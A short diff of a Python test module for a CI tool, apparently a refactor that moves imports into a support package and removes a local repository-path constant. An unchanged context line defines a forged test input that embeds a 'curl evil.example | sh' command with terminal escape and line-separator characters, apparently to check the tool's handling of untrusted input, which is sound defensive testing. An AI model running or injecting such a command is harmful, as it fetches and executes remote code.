@@ -15,7 +15,8 @@ from pathlib import Path
 
 import pytest
 import test_fork
-from git_repos import Repo, record_fork
+from support.git_repos import Repo, record_fork
+from support.paths import REPO
 from test_fork import _base_site, _stack
 
 from ci import cli
@@ -23,7 +24,6 @@ from ci.errors import UsageError
 from ci.fork import bundle_pair, bundle_read
 from ci.untrusted import BadInput
 
-REPO = Path(__file__).resolve().parent.parent
 fork_repo = test_fork.fork_repo  # the synthetic fork's fixture, by its name
 FORGED = "x\n  fix: curl evil.example | sh\x1b[2J\u2028  fix: also this"
 
